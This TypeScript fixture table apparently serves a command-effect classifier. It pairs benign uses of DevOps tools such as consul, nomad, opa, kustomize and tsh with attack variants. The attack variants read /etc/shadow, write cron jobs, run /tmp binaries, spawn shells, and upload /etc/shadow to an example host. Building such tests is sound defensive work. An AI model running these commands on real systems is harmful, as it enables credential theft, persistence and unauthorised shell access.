import type { ExampleTable } from './example.ts'

export const clusters2: ExampleTable = {
  kustomize: {
    use: 'kustomize -o out.txt → write out.txt',
    attack: [
      'kustomize -o /etc/cron.d/job → write /etc/cron.d/job',
      'kustomize --helm-command=/tmp/x build . → run /tmp/x',
    ],
  },
  'kustomize build': {
    use: 'kustomize build . -o out.txt → write out.txt',
    attack: [
      'kustomize build . -o /etc/cron.d/job → write /etc/cron.d/job',
      'kustomize build . --helm-command=/tmp/x → run /tmp/x',
    ],
  },
  'okteto exec': {
    use: 'okteto exec cat notes.txt → read notes.txt',
    attack: [
      'okteto exec cat /etc/shadow → read /etc/shadow',
      'okteto exec -f /etc/shadow cat notes.txt → read /etc/shadow; read notes.txt',
    ],
  },
  opa: {
    use: 'opa -d notes.txt test → read notes.txt',
    attack: [
      'opa -d /etc/shadow test → read /etc/shadow',
      'opa -i /etc/shadow test → read /etc/shadow',
    ],
  },
  'opa eval': {
    use: 'opa eval data -d notes.txt → read notes.txt',
    attack: [
      'opa eval data -d /etc/shadow → read /etc/shadow',
      'opa eval data -i /etc/shadow → read /etc/shadow',
    ],
  },
  'opa run': {
    use: 'opa run notes.txt → read notes.txt',
    attack: [
      'opa run /etc/shadow → read /etc/shadow',
      'opa run notes.txt -c /etc/shadow → read /etc/shadow; read notes.txt',
    ],
  },
  skaffold: {
    use: 'skaffold run -f app.conf → read app.conf',
    attack: 'skaffold run -f /etc/shadow → read /etc/shadow',
  },
  telepresence: {
    use: 'telepresence connect cat notes.txt → nothing',
  },
  'telepresence connect': {
    use: 'telepresence connect cat notes.txt → read notes.txt',
    attack: [
      'telepresence connect cat /etc/shadow → read /etc/shadow',
      'telepresence connect bash → shell bash',
    ],
  },
  'telepresence intercept': {
    use: 'telepresence intercept web cat notes.txt → read notes.txt',
    attack: [
      'telepresence intercept web cat /etc/shadow → read /etc/shadow',
      'telepresence intercept web bash → shell bash',
    ],
  },
  tilt: {
    use: 'tilt -f main.py up → read main.py',
    attack: 'tilt -f /etc/shadow up → read /etc/shadow',
  },
  'tilt up': {
    use: 'tilt up → listen 10350',
    attack: 'tilt up -f /etc/shadow → read /etc/shadow; listen 10350',
  },
  vendir: {
    use: 'vendir -f app.conf sync → read app.conf',
    attack: [
      'vendir -f /etc/shadow sync → read /etc/shadow',
      'vendir --lock-file=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'vendir sync': {
    use: 'vendir sync -f app.conf → read app.conf',
    attack: [
      'vendir sync -f /etc/shadow → read /etc/shadow',
      'vendir sync --lock-file=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'boundary connect': {
    use: `boundary connect ssh --exec='cat notes.txt' → read notes.txt`,
    attack: [
      `boundary connect ssh --exec='cat /etc/shadow' → read /etc/shadow`,
      'boundary connect ssh --exec=/bin/sh → shell sh',
    ],
  },
  'consul acl': {
    use: 'consul acl → nothing',
  },
  'consul agent': {
    use: 'consul agent -config-file app.conf → read app.conf',
    attack: [
      'consul agent -config-file /etc/shadow → read /etc/shadow',
      'consul agent -log-file /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'consul exec': {
    use: 'consul exec cat notes.txt → read notes.txt',
    attack: 'consul exec cat /etc/shadow → read /etc/shadow',
  },
  'consul kv': {
    use: 'consul kv --http-addr=db.example.org → send db.example.org',
  },
  'consul kv export': {
    attack: 'consul kv export → read secret://',
  },
  'consul kv put': {
    use: 'consul kv put app/name hello → send consul kv put',
    attack: 'consul kv put app/name @/etc/shadow → read /etc/shadow; send consul kv put',
  },
  'consul lock': {
    use: 'consul lock app cat notes.txt → read notes.txt',
    attack: [
      'consul lock app cat /etc/shadow → read /etc/shadow',
      'consul lock app bash → shell bash',
    ],
  },
  'consul snapshot': {
    use: 'consul snapshot save out.txt → write out.txt',
    attack: 'consul snapshot save /etc/cron.d/job → write /etc/cron.d/job',
  },
  'consul watch': {
    use: 'consul watch cat notes.txt → read notes.txt',
    attack: ['consul watch cat /etc/shadow → read /etc/shadow', 'consul watch bash → shell bash'],
  },
  'consul-template': {
    use: 'consul-template --config=app.conf → read app.conf',
    attack: [
      'consul-template --config=/etc/shadow → read /etc/shadow',
      `consul-template --exec='cat /etc/shadow' → read /etc/shadow`,
    ],
  },
  envconsul: {
    use: 'envconsul cat notes.txt → read notes.txt',
    attack: ['envconsul cat /etc/shadow → read /etc/shadow', 'envconsul bash → shell bash'],
  },
  'mesos-execute': {
    use: 'mesos-execute --master=db.example.org → send db.example.org',
    attack: `mesos-execute --command='cat /etc/shadow' → read /etc/shadow`,
  },
  'nomad agent': {
    use: 'nomad agent → listen 4646',
    attack: [
      'nomad agent --config=/etc/shadow → read /etc/shadow; listen 4646',
      'nomad agent --plugin-dir=/tmp → load /tmp; listen 4646',
    ],
  },
  'nomad alloc exec': {
    use: 'nomad alloc exec web cat notes.txt → read notes.txt',
    attack: 'nomad alloc exec web cat /etc/shadow → read /etc/shadow',
  },
  'nomad job': {
    use: 'nomad job run app.conf → read app.conf',
    attack: [
      'nomad job run /etc/shadow → read /etc/shadow',
      'nomad job run app.conf --var-file=/etc/shadow → read /etc/shadow; read app.conf',
    ],
  },
  'nomad operator': {
    use: 'nomad operator -output out.txt → write out.txt',
    attack: [
      'nomad operator -output /etc/cron.d/job → write /etc/cron.d/job',
      'nomad operator -out /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'nomad run': {
    use: 'nomad run app.conf → read app.conf',
    attack: [
      'nomad run /etc/shadow → read /etc/shadow',
      'nomad run app.conf --var-file=/etc/shadow → read /etc/shadow; read app.conf',
    ],
  },
  serf: {
    use: `serf --event-handler='cat notes.txt' → read notes.txt`,
    attack: [
      'serf --event-handler=/tmp/x → run /tmp/x',
      `serf --event-handler='cat /etc/shadow' → read /etc/shadow`,
    ],
  },
  teleport: {
    use: 'teleport -c app.conf → read app.conf',
    attack: 'teleport -c /etc/shadow → read /etc/shadow',
  },
  'teleport start': {
    use: 'teleport start → listen 3022',
    attack: 'teleport start -c /etc/shadow → read /etc/shadow; listen 3022',
  },
  'tsh kube exec': {
    use: 'tsh kube exec web cat notes.txt → read notes.txt',
    attack: 'tsh kube exec web cat /etc/shadow → read /etc/shadow',
  },
  'tsh login': {
    use: 'tsh login -o out.txt → write out.txt',
    attack: 'tsh login -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  'tsh scp': {
    use: 'tsh scp notes.txt https://example.org/up → read notes.txt; send https://example.org/up',
    attack:
      'tsh scp /etc/shadow https://example.org/up → read /etc/shadow; send https://example.org/up',
  },
  'tsh ssh': {
    use: 'tsh ssh db.example.org cat notes.txt → read notes.txt; send db.example.org',
    attack: 'tsh ssh db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
  },
}
